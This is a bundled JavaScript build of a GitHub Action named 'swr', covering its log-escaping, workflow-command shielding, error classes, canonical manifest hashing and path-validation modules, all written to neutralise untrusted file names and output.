export const id = 592;
export const ids = [592];
export const modules = {

/***/ 58592:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

__webpack_require__.r(__webpack_exports__);
/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   LINE_MAX: () => (/* binding */ LINE_MAX),
/* harmony export */   annotationsPrinted: () => (/* binding */ annotationsPrinted),
/* harmony export */   debug: () => (/* binding */ debug),
/* harmony export */   endGroup: () => (/* binding */ endGroup),
/* harmony export */   error: () => (/* binding */ error),
/* harmony export */   flushed: () => (/* binding */ flushed),
/* harmony export */   info: () => (/* binding */ info),
/* harmony export */   makeShield: () => (/* binding */ makeShield),
/* harmony export */   notice: () => (/* binding */ notice),
/* harmony export */   rendered: () => (/* binding */ rendered),
/* harmony export */   safeLine: () => (/* binding */ safeLine),
/* harmony export */   setFailed: () => (/* binding */ setFailed),
/* harmony export */   startGroup: () => (/* binding */ startGroup),
/* harmony export */   warning: () => (/* binding */ warning),
/* harmony export */   writeSummary: () => (/* binding */ writeSummary)
/* harmony export */ });
/* harmony import */ var _actions_core__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(33838);
/* harmony import */ var node_crypto__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(77598);
/* harmony import */ var node_crypto__WEBPACK_IMPORTED_MODULE_1___default = /*#__PURE__*/__webpack_require__.n(node_crypto__WEBPACK_IMPORTED_MODULE_1__);
/* harmony import */ var node_os__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(48161);
/* harmony import */ var node_os__WEBPACK_IMPORTED_MODULE_2___default = /*#__PURE__*/__webpack_require__.n(node_os__WEBPACK_IMPORTED_MODULE_2__);
/* harmony import */ var _core_index_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(70805);
/**
 * The only way the Action writes to its log. The runner reads every stdout line as a possible
 * workflow command (`::warning::`, `::add-mask::`, `::stop-commands::`, `::save-state`), so a line
 * swr prints must never be one that someone else authored: every message is passed through
 * `escapeText` (no CR, LF or other control survives), a line can never start with `::`, and
 * recipe output is printed only inside a `::stop-commands::` window with a random token. The lint
 * configuration forbids `core.info` and friends, `console` and `process.stdout` elsewhere in
 * src/action, so a raw print cannot come back unnoticed.
 */




/** Longest single log line swr prints; a hostile 10 MB name must not become a 10 MB line. */
const LINE_MAX = 4096;
/** One log line: escaped, bounded, and never read by the runner as a command. */
function safeLine(text) {
    const line = (0,_core_index_js__WEBPACK_IMPORTED_MODULE_3__/* .escapeText */ .X1)(text, { max: LINE_MAX });
    // The runner trims leading whitespace before looking for `::`.
    return /^\s*::/.test(line) ? line.replace('::', '\\x3a:') : line;
}
/**
 * A command's message: each of swr's own lines escaped; the runner gets them as one command.
 * `%` is left to @actions/core, which percent-encodes command data and properties itself
 * (encoding it here too would show `%25` where the name has `%`).
 */
function message(text) {
    return text
        .split('\n')
        .map(l => safeLine(l))
        .join('\n');
}
function props(p) {
    if (!p)
        return undefined;
    return {
        ...(p.title !== undefined ? { title: safeLine(p.title) } : {}),
        ...(p.file !== undefined ? { file: safeLine(p.file) } : {}),
        ...(p.startLine !== undefined ? { startLine: p.startLine } : {})
    };
}
/** One line: a newline in `text` is shown as `\n`, never printed. */
function info(text) {
    _actions_core__WEBPACK_IMPORTED_MODULE_0__/* .info */ .pq(safeLine(text));
}
/** Text from a report renderer (which escapes every untrusted string): one log line per line. */
function rendered(text) {
    for (const l of text.replace(/\n$/, '').split('\n'))
        _actions_core__WEBPACK_IMPORTED_MODULE_0__/* .info */ .pq(safeLine(l));
}
/** Annotations printed so far in this step, by level: GitHub shows only a few of each. */
const printed = { error: 0, warning: 0, notice: 0 };
function annotationsPrinted() {
    return { ...printed };
}
function warning(text, p) {
    printed.warning++;
    _actions_core__WEBPACK_IMPORTED_MODULE_0__/* .warning */ .$e(message(text), props(p));
}
function error(text, p) {
    printed.error++;
    _actions_core__WEBPACK_IMPORTED_MODULE_0__/* .error */ .z3(message(text), props(p));
}
function notice(text, p) {
    printed.notice++;
    _actions_core__WEBPACK_IMPORTED_MODULE_0__/* .notice */ .lm(message(text), props(p));
}
/** Shown only when the run has step debugging on (a stack for a bug report). */
function debug(text) {
    _actions_core__WEBPACK_IMPORTED_MODULE_0__/* .debug */ .Yz(message(text));
}
function setFailed(text) {
    _actions_core__WEBPACK_IMPORTED_MODULE_0__/* .setFailed */ .C1(message(text));
}
function startGroup(name) {
    _actions_core__WEBPACK_IMPORTED_MODULE_0__/* .startGroup */ .Oh(safeLine(name));
}
function endGroup() {
    _actions_core__WEBPACK_IMPORTED_MODULE_0__/* .endGroup */ .N4();
}
/** Append Markdown built by the report renderers (which escape every untrusted string). */
async function writeSummary(markdown) {
    await _actions_core__WEBPACK_IMPORTED_MODULE_0__/* .summary */ .z.addRaw(markdown, true).write();
}
/**
 * Recipe output must not act as workflow commands: it is printed inside a stop-commands window
 * with a random token, opened before the first recipe line and closed before swr prints anything
 * of its own (groups, errors, warnings), so swr's own commands still work.
 */
function makeShield() {
    let token;
    return {
        recipeLine(line) {
            if (!token) {
                token = (0,node_crypto__WEBPACK_IMPORTED_MODULE_1__.randomBytes)(16).toString('hex');
                process.stdout.write(`::stop-commands::${token}${(node_os__WEBPACK_IMPORTED_MODULE_2___default().EOL)}`);
            }
            // A lone CR is a line break to some readers: keep each recipe line one line.
            process.stdout.write(line.replace(/\r/g, '\\r') + (node_os__WEBPACK_IMPORTED_MODULE_2___default().EOL));
        },
        own() {
            if (token)
                process.stdout.write(`::${token}::${(node_os__WEBPACK_IMPORTED_MODULE_2___default().EOL)}`);
            token = undefined;
        }
    };
}
/**
 * Resolves once everything written to stdout so far has been handed to the OS. A pipe the runner
 * reads may not keep up, and `process.exit` drops what is still queued: the end of the log, with
 * the annotations and the step's failure, would be lost.
 */
function flushed() {
    return new Promise(resolve => process.stdout.write('', () => resolve()));
}


/***/ }),

/***/ 70805:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  dc: () => (/* reexport */ errors_EXIT),
  eb: () => (/* reexport */ errors_UsageError),
  gX: () => (/* reexport */ annotationsFor),
  Np: () => (/* reexport */ bySeverity),
  jZ: () => (/* reexport */ face_canary_namespaceObject),
  l8: () => (/* reexport */ canaryAnchors),
  Fg: () => (/* reexport */ face_capture_namespaceObject),
  z6: () => (/* reexport */ check),
  fe: () => (/* reexport */ classifyError),
  FV: () => (/* reexport */ escapeMarkdown),
  X1: () => (/* reexport */ escape_escapeText),
  hq: () => (/* reexport */ findingLines),
  $Y: () => (/* reexport */ index_file_namespaceObject),
  b6: () => (/* reexport */ face_history_namespaceObject),
  Fy: () => (/* reexport */ limits_namespaceObject),
  eY: () => (/* reexport */ load_loadManifest),
  LN: () => (/* reexport */ manifests_namespaceObject),
  D9: () => (/* reexport */ markdownCode),
  sG: () => (/* reexport */ outcomeOf),
  wk: () => (/* reexport */ plantCanary),
  ad: () => (/* reexport */ readCanaryIfPlanted),
  My: () => (/* reexport */ recordSurvival),
  Iv: () => (/* reexport */ renderCanaryMarkdown),
  yf: () => (/* reexport */ renderCanaryText),
  Gc: () => (/* reexport */ renderMarkdown),
  EG: () => (/* reexport */ renderPlan),
  t_: () => (/* reexport */ renderStatsMarkdown),
  zc: () => (/* reexport */ renderStep),
  Db: () => (/* reexport */ repairManifest),
  sK: () => (/* reexport */ restoreCanaryState),
  RI: () => (/* reexport */ restoreSealedCache),
  vR: () => (/* reexport */ types_restoreSources),
  I2: () => (/* reexport */ saveSealedCache),
  km: () => (/* reexport */ savedLine),
  _I: () => (/* reexport */ face_scrub_namespaceObject),
  HN: () => (/* reexport */ seals_namespaceObject),
  _S: () => (/* reexport */ face_sign_namespaceObject),
  dZ: () => (/* reexport */ state_namespaceObject),
  oC: () => (/* reexport */ survivalStats),
  zv: () => (/* reexport */ toSarif),
  fG: () => (/* reexport */ verifySignatures),
  GG: () => (/* reexport */ face_walk_namespaceObject),
  xS: () => (/* reexport */ writeBackHandedOver)
});

// UNUSED EXPORTS: CONTROL_CLASS, KINDS, SwrError, TIERS, archive, author, boundedLines, checkManifest, classifyBug, cleanCanary, cosignManifest, createManifest, editManifest, errnoCode, exportRecipes, fewIds, locateManifest, ownPaths, pull, push, pushKeyTail, readCanary, renderCheck, renderCollateral, renderStatsText, renderWhy, selectEntries, selftest, shellQuote, signManifest, signerWords, stateWords, sync, syncStatus, writeBack

// NAMESPACE OBJECT: ./src/core/report/limits.ts
var limits_namespaceObject = {};
__webpack_require__.r(limits_namespaceObject);
__webpack_require__.d(limits_namespaceObject, {
  ANNOTATION_MESSAGE_CHARS: () => (ANNOTATION_MESSAGE_CHARS),
  CANARY_OUTPUT_BYTES: () => (CANARY_OUTPUT_BYTES),
  GITHUB_ANNOTATIONS_PER_LEVEL: () => (GITHUB_ANNOTATIONS_PER_LEVEL),
  GITHUB_SARIF_RESULTS_SHOWN: () => (GITHUB_SARIF_RESULTS_SHOWN),
  GITHUB_SUMMARY_BYTES: () => (GITHUB_SUMMARY_BYTES),
  ID_LIST_OUTPUT_BYTES: () => (ID_LIST_OUTPUT_BYTES),
  LINE_IDS: () => (LINE_IDS),
  LISTED_LINES: () => (limits_LISTED_LINES),
  NOTICE_IDS: () => (NOTICE_IDS),
  REPORT_OUTPUT_BYTES: () => (REPORT_OUTPUT_BYTES),
  SARIF_RESULTS: () => (SARIF_RESULTS),
  STATS_OUTPUT_BYTES: () => (STATS_OUTPUT_BYTES),
  SUMMARY_BUDGET: () => (SUMMARY_BUDGET),
  SURVIVAL_TABLE_ROWS: () => (SURVIVAL_TABLE_ROWS),
  outputSize: () => (outputSize)
});

// NAMESPACE OBJECT: ./src/core/face/canary.ts
var face_canary_namespaceObject = {};
__webpack_require__.r(face_canary_namespaceObject);
__webpack_require__.d(face_canary_namespaceObject, {
  abbreviate: () => (abbreviate),
  cleanLedger: () => (clean_cleanLedger),
  ledgerPath: () => (ledgerPath),
  plantCanaries: () => (plantCanaries),
  readCanaries: () => (readCanaries),
  readLedger: () => (ledger_readLedger),
  removeLedger: () => (ledger_removeLedger),
  showAnchored: () => (showAnchored)
});

// NAMESPACE OBJECT: ./src/core/face/capture.ts
var face_capture_namespaceObject = {};
__webpack_require__.r(face_capture_namespaceObject);
__webpack_require__.d(face_capture_namespaceObject, {
  BLOB_THRESHOLD: () => (capture_BLOB_THRESHOLD),
  ESCROW_MAX_BYTES: () => (escrow_ESCROW_MAX_BYTES),
  VOLATILE_DIRS: () => (volatile_dirs_VOLATILE_DIRS),
  adviceFor: () => (adviceFor),
  captureEntries: () => (captureEntries),
  captureEntry: () => (capture_captureEntry),
  captureEscrow: () => (captureEscrow),
  deriveId: () => (deriveId),
  diagnose: () => (diagnose),
  isSecretPath: () => (secrets_isSecretPath),
  loadSecretScan: () => (secret_scan_loadSecretScan),
  pickSentinels: () => (pickSentinels),
  recaptureEntry: () => (recaptureEntry),
  underVolatileDir: () => (underVolatileDir),
  wipeSignature: () => (wipeSignature)
});

// NAMESPACE OBJECT: ./src/core/git/index-file.ts
var index_file_namespaceObject = {};
__webpack_require__.r(index_file_namespaceObject);
__webpack_require__.d(index_file_namespaceObject, {
  MAX_INDEX_BYTES: () => (index_file_MAX_INDEX_BYTES),
  parseIndex: () => (index_file_parseIndex),
  trackedPaths: () => (trackedPaths),
  workTreeTop: () => (workTreeTop)
});

// NAMESPACE OBJECT: ./src/core/face/history.ts
var face_history_namespaceObject = {};
__webpack_require__.r(face_history_namespaceObject);
__webpack_require__.d(face_history_namespaceObject, {
  appendHistory: () => (appendHistory),
  checkRecord: () => (checkRecord),
  computeStats: () => (computeStats),
  historyAdvice: () => (historyAdvice),
  readHistory: () => (readHistory),
  recentLosses: () => (recentLosses),
  runContext: () => (runContext)
});

// NAMESPACE OBJECT: ./src/core/face/manifests.ts
var manifests_namespaceObject = {};
__webpack_require__.r(manifests_namespaceObject);
__webpack_require__.d(manifests_namespaceObject, {
  jB: () => (ENTRY_ID)
});

// NAMESPACE OBJECT: ./src/core/face/scrub.ts
var face_scrub_namespaceObject = {};
__webpack_require__.r(face_scrub_namespaceObject);
__webpack_require__.d(face_scrub_namespaceObject, {
  describeResult: () => (recipe_describeResult),
  hasTokenShape: () => (scrub_hasTokenShape),
  makeLineScrubber: () => (makeLineScrubber),
  makeScrubber: () => (makeScrubber),
  minimalEnv: () => (minimalEnv),
  runRecipe: () => (runRecipe),
  scrubDeep: () => (scrubDeep),
  secretPieces: () => (secretPieces)
});

// NAMESPACE OBJECT: ./src/core/face/seals.ts
var seals_namespaceObject = {};
__webpack_require__.r(seals_namespaceObject);
__webpack_require__.d(seals_namespaceObject, {
  SEAL_REQUIREMENTS: () => (SEAL_REQUIREMENTS),
  SEAL_SCHEMA: () => (SEAL_SCHEMA),
  hasControl: () => (locations_hasControl),
  inputLines: () => (inputLines),
  parseSeal: () => (parseSeal),
  parseTrustedSigners: () => (parseTrustedSigners),
  sealLocations: () => (sealLocations)
});

// NAMESPACE OBJECT: ./src/core/face/sign.ts
var face_sign_namespaceObject = {};
__webpack_require__.r(face_sign_namespaceObject);
__webpack_require__.d(face_sign_namespaceObject, {
  ALL_SUITE_DEFENSES: () => (ALL_SUITE_DEFENSES),
  DEFENCE_PROBES: () => (DEFENCE_PROBES),
  HMAC_KEY_FILE: () => (HMAC_KEY_FILE),
  IDENTITY_FILE: () => (IDENTITY_FILE),
  SYNC_KEY_FILE: () => (SYNC_KEY_FILE),
  addTrusted: () => (addTrusted),
  alreadyExists: () => (alreadyExists),
  authorizeEdit: () => (edit_rules_authorizeEdit),
  buildScenario: () => (buildScenario),
  cosignDocument: () => (sign_cosignDocument),
  createKeyFiles: () => (createKeyFiles),
  decide: () => (gate_decide),
  evaluateSignatures: () => (gate_evaluateSignatures),
  gateInput: () => (gate_gateInput),
  groupFingerprint: () => (mldsa_groupFingerprint),
  hasSigningKey: () => (sign_hasSigningKey),
  identityFromSeed: () => (mldsa_identityFromSeed),
  keyPath: () => (keyPath),
  loadHmacKey: () => (keys_loadHmacKey),
  loadIdentitySeed: () => (keys_loadIdentitySeed),
  loadSyncSeed: () => (keys_loadSyncSeed),
  makePolicy: () => (makePolicy),
  manifestPathInWorkspace: () => (manifestPathInWorkspace),
  newKey: () => (newKey),
  normalizeFingerprint: () => (normalizeFingerprint),
  parseExpiry: () => (parseExpiry),
  parseHmacKey: () => (parseHmacKey),
  parseScope: () => (parseScope),
  readTrustStore: () => (readTrustStore),
  recall: () => (version_memory_recall),
  remember: () => (version_memory_remember),
  removeTrusted: () => (removeTrusted),
  runSuite: () => (runSuite),
  secretKeyFile: () => (secretKeyFile),
  signDocument: () => (sign_signDocument),
  signaturesHold: () => (gate_signaturesHold),
  thresholdProblem: () => (thresholdProblem)
});

// NAMESPACE OBJECT: ./src/core/face/state.ts
var state_namespaceObject = {};
__webpack_require__.r(state_namespaceObject);
__webpack_require__.d(state_namespaceObject, {
  SymlinkRefusal: () => (no_follow_SymlinkRefusal),
  defaultStateDir: () => (defaultStateDir),
  ensurePrivateDir: () => (state_dir_ensurePrivateDir),
  linkStaysInside: () => (no_follow_linkStaysInside),
  lockWorkspace: () => (lockWorkspace),
  makeOwnedTemp: () => (leftovers_makeOwnedTemp),
  relativeInside: () => (no_follow_relativeInside),
  resolveNoFollow: () => (no_follow_resolveNoFollow),
  withLock: () => (lock_withLock),
  writeFileAtomic: () => (atomic_writeFileAtomic)
});

// NAMESPACE OBJECT: ./src/core/face/walk.ts
var face_walk_namespaceObject = {};
__webpack_require__.r(face_walk_namespaceObject);
__webpack_require__.d(face_walk_namespaceObject, {
  NATIVE_WALK_VAR: () => (NATIVE_WALK_VAR),
  indexPath: () => (tree_index_indexPath),
  nativeWalkAllowed: () => (nativeWalkAllowed)
});

// EXTERNAL MODULE: external "node:crypto"
var external_node_crypto_ = __webpack_require__(77598);
var external_node_crypto_default = /*#__PURE__*/__webpack_require__.n(external_node_crypto_);
// EXTERNAL MODULE: ./node_modules/canonicalize/lib/canonicalize.js
var canonicalize = __webpack_require__(98799);
// EXTERNAL MODULE: external "node:util"
var external_node_util_ = __webpack_require__(57975);
;// CONCATENATED MODULE: ./src/core/errors.ts
/**
 * Exit codes and the few error classes that carry them. Only the shells turn an error into an exit.
 */

const errors_EXIT = {
    HEALTHY: 0,
    DAMAGED: 1,
    UNREPAIRABLE: 2,
    STILL_DAMAGED: 3,
    BAD_MANIFEST: 4,
    /** A bug in swr (sysexits EX_SOFTWARE): never 1 or 2, which mean something about the workspace. */
    INTERNAL: 70,
    /** A write failed (disk full, quota, I/O error): nothing was replaced (sysexits EX_IOERR). */
    WRITE_FAILED: 74,
    /** Another writer interfered: the lock was lost or the manifest changed underneath; nothing was written. */
    CONFLICT: 75,
    INTERRUPTED: 130
};
/**
 * What kind of error an SwrError is, for a shell that must decide by more than the exit code:
 * `BAD_MANIFEST` (the manifest cannot be read or is malformed) and `USAGE` (a flag or input) are
 * the two kinds of `INVALID`; `ACCESS` is a file the user can reach or fix (permissions, a vanished
 * path); `WRITE_FAILED` a disk error or a write that could not finish; `CONFLICT` another writer;
 * `REFUSED` swr declining to go on (a signature, a key, a store); `INTERRUPTED` a signal.
 *
 * The field is `kind`, not `code`: much of swr reads `err.code` of any caught error as Node's
 * errno (`ENOENT`, `ENOSPC`) and prints it, and an SwrError must not pass for one.
 */
const SWR_ERROR_KINDS = (/* unused pure expression or super */ null && ([
    'BAD_MANIFEST',
    'USAGE',
    'INVALID',
    'ACCESS',
    'REFUSED',
    'WRITE_FAILED',
    'CONFLICT',
    'INTERRUPTED',
    'FAILED'
]));
/** The kind an exit code stands for, when the thrower names none. */
function kindOfExit(exitCode) {
    switch (exitCode) {
        case errors_EXIT.BAD_MANIFEST:
            return 'INVALID';
        case errors_EXIT.UNREPAIRABLE:
            return 'REFUSED';
        case errors_EXIT.WRITE_FAILED:
            return 'WRITE_FAILED';
        case errors_EXIT.CONFLICT:
            return 'CONFLICT';
        case errors_EXIT.INTERRUPTED:
            return 'INTERRUPTED';
        default:
            return 'FAILED';
    }
}
/** An error meant for the user: one line, a subject, and the exit status it maps to. */
class errors_SwrError extends Error {
    exitCode;
    kind;
    constructor(message, exitCode, kind) {
        super(message);
        this.exitCode = exitCode;
        this.name = 'SwrError';
        this.kind = kind ?? kindOfExit(exitCode);
    }
}
/** The manifest is unreadable, malformed or inconsistent. `where` names the file, line or field. */
class errors_ManifestError extends errors_SwrError {
    problems;
    constructor(message, problems = [message]) {
        super(message, errors_EXIT.BAD_MANIFEST, 'BAD_MANIFEST');
        this.problems = problems;
        this.name = 'ManifestError';
    }
}
/** The command line asked for something that cannot be done. */
class errors_UsageError extends errors_SwrError {
    constructor(message) {
        super(message, errors_EXIT.BAD_MANIFEST, 'USAGE');
        this.name = 'UsageError';
    }
}
/** A bug: the shells print it with a request to report it. */
class InternalError extends Error {
    constructor(message) {
        super(message);
        this.name = 'InternalError';
    }
}
/** Errors of the disk rather than of swr or its input: a clear line and EXIT.WRITE_FAILED. */
const DISK_CODES = new Set(['ENOSPC', 'EDQUOT', 'EIO', 'EROFS', 'EFBIG']);
const DISK_WORDS = {
    ENOSPC: 'no space left on the device',
    EDQUOT: 'disk quota exceeded',
    EIO: 'input/output error',
    EROFS: 'read-only file system',
    EFBIG: 'file too large'
};
/** The error as a one-line SwrError when it is a disk error, else undefined. */
function diskError(err, file) {
    const code = errors_errnoCode(err);
    if (!code || !DISK_CODES.has(code))
        return undefined;
    const p = err.path;
    const what = file ?? (typeof p === 'string' ? p : 'to the disk');
    return new errors_SwrError(`cannot write ${what}: ${DISK_WORDS[code] ?? code} (${code})`, errors_EXIT.WRITE_FAILED, 'WRITE_FAILED');
}
/**
 * The error as a one-line SwrError when it is a file system error with a path (permissions, a
 * vanished file: something the user can fix), else undefined. Disk errors are diskError's.
 */
function accessError(err) {
    const code = errors_errnoCode(err);
    // isNativeError: an error made in another realm (a vm context) is no `instanceof Error` here.
    if (!code || !(err instanceof Error || external_node_util_.types.isNativeError(err)) || !('path' in err))
        return undefined;
    const e = err;
    return new errors_SwrError(`${e.syscall ?? 'access'} ${e.path}: ${code}`, errors_EXIT.BAD_MANIFEST, 'ACCESS');
}
/** Node's fs errors carry a code; this reads it without `any`. */
function errors_errnoCode(err) {
    if (typeof err === 'object' && err !== null && 'code' in err) {
        const code = err.code;
        return typeof code === 'string' ? code : undefined;
    }
    return undefined;
}

;// CONCATENATED MODULE: ./src/core/manifest/canonical.ts
/**
 * The one canonical form of a manifest body (RFC 8785, JCS) and the digest derived from it. Only
 * values from the strict parser reach here, so the text a reviewer read is the text that is hashed.
 */



/** RFC 8785 bytes of `value`. */
function canonicalBytes(value) {
    const text = (0,canonicalize/* default */.A)(value);
    if (text === undefined)
        throw new InternalError('value has no canonical JSON form');
    return Buffer.from(text, 'utf8');
}
/** sha256 (hex) of the canonical body: the manifest digest shown to people and used as cache key. */
function canonical_manifestDigest(body) {
    return (0,external_node_crypto_.createHash)('sha256').update(canonicalBytes(body)).digest('hex');
}

// EXTERNAL MODULE: external "node:path"
var external_node_path_ = __webpack_require__(76760);
var external_node_path_default = /*#__PURE__*/__webpack_require__.n(external_node_path_);
;// CONCATENATED MODULE: ./src/core/text/controls.mjs
// The one definition of the characters no line of output may carry raw: C0 controls, DEL, C1
// controls and the bidi controls. Raw, a newline starts a line of the writer's choosing (a
// workflow command in the Action's log, a fake `OK` line in a terminal), ESC or CSI rewrites the
// screen, and a bidi control shows text in another order than it is stored. Plain JavaScript
// because the walk's worker threads (walk/byte-names.mjs) import it as well as the TypeScript
// printers; `npm run bundle` copies it beside each bundle with the workers' other files.

/** Bidi controls: ALM, LRM, RLM, LRE..RLO, LRI..PDI. */
const BIDI_CONTROLS = Object.freeze([
  0x061c, 0x200e, 0x200f, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069
])

const BIDI = new Set(BIDI_CONTROLS)

/**
 * True for C0, DEL, C1 and bidi controls (a UTF-16 code unit).
 * @param {number} code
 * @returns {boolean}
 */
function controls_isControl(code) {
  return code <= 0x1f || (code >= 0x7f && code <= 0x9f) || BIDI.has(code)
}

/** @param {number} c */
const u = c => `\\u${c.toString(16).padStart(4, '0')}`

/** The controls above C0 (DEL, C1, bidi), as the inside of a RegExp character class. */
const NON_C0_CLASS = `${u(0x7f)}-${u(0x9f)}${BIDI_CONTROLS.map(u).join('')}`

/** Every control isControl names, as the inside of a RegExp character class. */
const CONTROL_CLASS = `${u(0)}-${u(0x1f)}${NON_C0_CLASS}`

;// CONCATENATED MODULE: ./src/core/text/escape.ts
/**
 * Rendering an untrusted string (a file name, link target, manifest id, path or note, recipe
 * text) as part of ONE line of output. Whoever wrote the workspace or the manifest chose these
 * bytes: printed raw, a newline starts a line of their choosing (a workflow command in the
 * Action's log, a fake `OK` line in a terminal), ESC or CSI rewrites the screen, and bidi controls
 * reorder what the reader sees. Every printer passes such strings through `escapeText`.
 */


const NAMED = { 0x09: '\\t', 0x0a: '\\n', 0x0d: '\\r' };
/** The default bound for a manifest string quoted in an error line. */
const QUOTE_MAX = 200;
/**
 * Whether JSON text could decode to a string holding a control character: it holds one raw (C0
 * ones cannot stand raw in a JSON string), or an escape that could spell one (any `\u`, or a
 * one-letter escape but `\"`, `\\` and `\/`). False lets a reader skip looking at every string.
 */
function jsonMayHoldControl(text) {
    return MAY_HOLD_CONTROL.test(text);
}
const MAY_HOLD_CONTROL = new RegExp(`\\\\[bfnrtu]|[${NON_C0_CLASS}]`);
function hex(code, width) {
    return code.toString(16).padStart(width, '0');
}
function visible(code) {
    if (NAMED[code])
        return NAMED[code];
    if (code <= 0xff && controls_isControl(code))
        return `\\x${hex(code, 2)}`;
    // Above 0xff only the bidi controls are controls.
    if (controls_isControl(code))
        return `\\u${hex(code, 4)}`;
    return undefined;
}
/**
 * A byte of a file name that is not UTF-8 travels as the lone surrogate U+DC00+byte (see
 * verify/byte-names.mjs); shown as `\xNN`, like the name's other unprintable bytes. Half of a real
 * surrogate pair is left alone.
 */
function byteMarker(s, i) {
    const code = s.charCodeAt(i);
    if (code < 0xdc80 || code > 0xdcff)
        return undefined;
    const prev = i > 0 ? s.charCodeAt(i - 1) : 0;
    if (prev >= 0xd800 && prev <= 0xdbff)
        return undefined;
    return `\\x${hex(code - 0xdc00, 2)}`;
}
/**
 * `s` with every control, DEL, C1 and bidi control shown as a visible escape (`\n`, `\x1b`,
 * `\u202e`), so the result never breaks or rewrites a line. With `max`, a longer result is cut and
 * ends with `…[+N chars]`. Idempotent: escaping twice changes nothing, so a line
 * built from escaped parts may be escaped again by the printer.
 */
function escape_escapeText(s, opts = {}) {
    const max = opts.max ?? Number.POSITIVE_INFINITY;
    let out = '';
    let i = 0;
    for (; i < s.length; i++) {
        const code = s.charCodeAt(i);
        const piece = visible(code) ?? byteMarker(s, i) ?? s.charAt(i);
        if (out.length + piece.length > max)
            break;
        out += piece;
    }
    if (i >= s.length)
        return out;
    // Never leave half a surrogate pair at the cut.
    const last = out.charCodeAt(out.length - 1);
    if (last >= 0xd800 && last <= 0xdbff) {
        out = out.slice(0, -1);
        i--;
    }
    return `${out}…[+${s.length - i} chars]`;
}
/** A manifest string quoted in a message: escaped, bounded, in double quotes. */
function quoted(s, max = QUOTE_MAX) {
    return `"${escape_escapeText(s, { max })}"`;
}
/**
 * `escapeText`, then the characters Markdown and HTML act on backslash-escaped (CommonMark lets
 * any ASCII punctuation be): in a job summary an untrusted string stays literal text, never a
 * table cell, link, image, emphasis, code span or HTML.
 */
function escapeMarkdown(s, opts = {}) {
    return escape_escapeText(s, opts).replace(/[\\`*_[\]<>&|~!#]/g, '\\$&');
}
/**
 * An untrusted string as a Markdown code span: nothing inside is interpreted, so only a backtick
 * (which would close the span, shown as `\x60`) and `|` (which GitHub's tables split cells on even
 * there, written `\|`) need care.
 */
function markdownCode(s, opts = {}) {
    return '`' + escape_escapeText(s, opts).replace(/`/g, '\\x60').replace(/\|/g, '\\|') + '`';
}
/**
 * A Markdown link to an http(s) URL, its text escaped as `escapeMarkdown` does. The destination
 * is the URL as WHATWG serialises it (no spaces, quotes or angle brackets) with the characters a
 * link destination or a table cell would act on (`(`, `)`, `|`, `[`, `]`, `\`) percent-encoded.
 * Anything that is not an http(s) URL gives the escaped text alone, no link.
 */
function markdownLink(text, url) {
    const label = escapeMarkdown(text);
    let href;
    try {
        href = new URL(url);
    }
    catch {
        return label;
    }
    if (href.protocol !== 'https:' && href.protocol !== 'http:')
        return label;
    const dest = href.href.replace(/[()|[\]\\]/g, c => `%${c.charCodeAt(0).toString(16).toUpperCase()}`);
    return `[${label}](${dest})`;
}

;// CONCATENATED MODULE: ./src/core/manifest/paths.ts
/**
 * Path rules for manifests: every entry path is workspace-relative POSIX, normalised, NFC, and
 * cannot leave the workspace. One spelling per path, so two entries can't name one file twice.
 */


const ENTRY_ID = /^[A-Za-z0-9._-]{1,128}$/;
const MAX_PATH = 4096;
/** Why `p` is not an acceptable manifest path, or undefined when it is. "." means the workspace. */
function paths_pathProblem(p) {
    if (p === '.')
        return undefined;
    if (p.length === 0)
        return 'is empty';
    if (p.length > MAX_PATH)
        return `is longer than ${MAX_PATH} characters`;
    if (p.includes('\0'))
        return 'contains a NUL byte';
    if (!p.isWellFormed() || p.normalize('NFC') !== p)
        return 'is not NFC-normalised Unicode';
    if (p.startsWith('/'))
        return 'is absolute; manifest paths are relative to the workspace';
    for (const seg of p.split('/')) {
        if (seg === '')
            return 'has an empty segment (double or trailing slash)';
        if (seg === '..')
            return 'escapes the workspace with ".."';
        if (seg === '.')
            return 'has a "." segment; write it without';
    }
    return undefined;
}
/**
 * Turn what a user typed (relative to `cwd`, or absolute) into the manifest spelling relative to
 * `workspace`. Returns an error string when the path is outside the workspace.
 */
function toManifestPath(input, cwd, workspace) {
    const abs = path.resolve(cwd, input.normalize('NFC'));
    const rel = path.relative(workspace, abs);
    if (rel === '')
        return { ok: true, path: '.' };
    if (rel === '..' || rel.startsWith('../') || path.isAbsolute(rel)) {
        return { ok: false, why: `${input} is outside the workspace ${workspace}` };
    }
    const spelled = rel.split(path.sep).join('/');
    const problem = paths_pathProblem(spelled) ?? controlProblem(spelled);
    return problem ? { ok: false, why: `${input} ${problem}` } : { ok: true, path: spelled };
}
/**
 * A manifest path is printed on lines of output, so the loader refuses one holding a control or
 * bidi character; a path typed to `add` is refused the same way before anything is written.
 */
function controlProblem(p) {
    for (let i = 0; i < p.length; i++) {
        const c = p.charCodeAt(i);
        if (isControl(c))
            return `contains a control character (U+${c.toString(16).toUpperCase().padStart(4, '0')}): rename it to track it`;
    }
    return undefined;
}
/** Absolute location of a validated manifest path. */
function resolveEntryPath(workspace, rel) {
    return rel === '.' ? workspace : external_node_path_default().join(workspace, rel);
}
/** Why a sentinel or other tree-relative path is unacceptable (same rules, "." refused). */
function innerPathProblem(p) {
    if (p === '.')
        return 'names the tree itself';
    return paths_pathProblem(p);
}

;// CONCATENATED MODULE: ./src/core/cache-port.ts
/**
 * The Actions cache as a restore source, seen from the engine: a port the shells fill with the
 * real cache service when it is reachable. The port only finds and streams an archive; it never
 * unpacks one. The engine extracts it itself into a private scratch directory, proves it against
 * the signed manifest while extracting, and only then places it (see restore/cache/), so a
 * partial, stale or poisoned cache can neither pass for the recorded state nor write anywhere.
 */



/**
 * The key under which an entry's verified state is saved: its id plus the digest of its signed
 * expectations. Another state of the entry (or another manifest's entry) has another key.
 */
function stateKey(e) {
    const digest = (0,external_node_crypto_.createHash)('sha256').update(canonicalBytes(e)).digest('hex');
    return `swr-v1-${e.id}-${digest.slice(0, 32)}`;
}
/** Which entries have a cache saved for exactly their expected state (no download). */
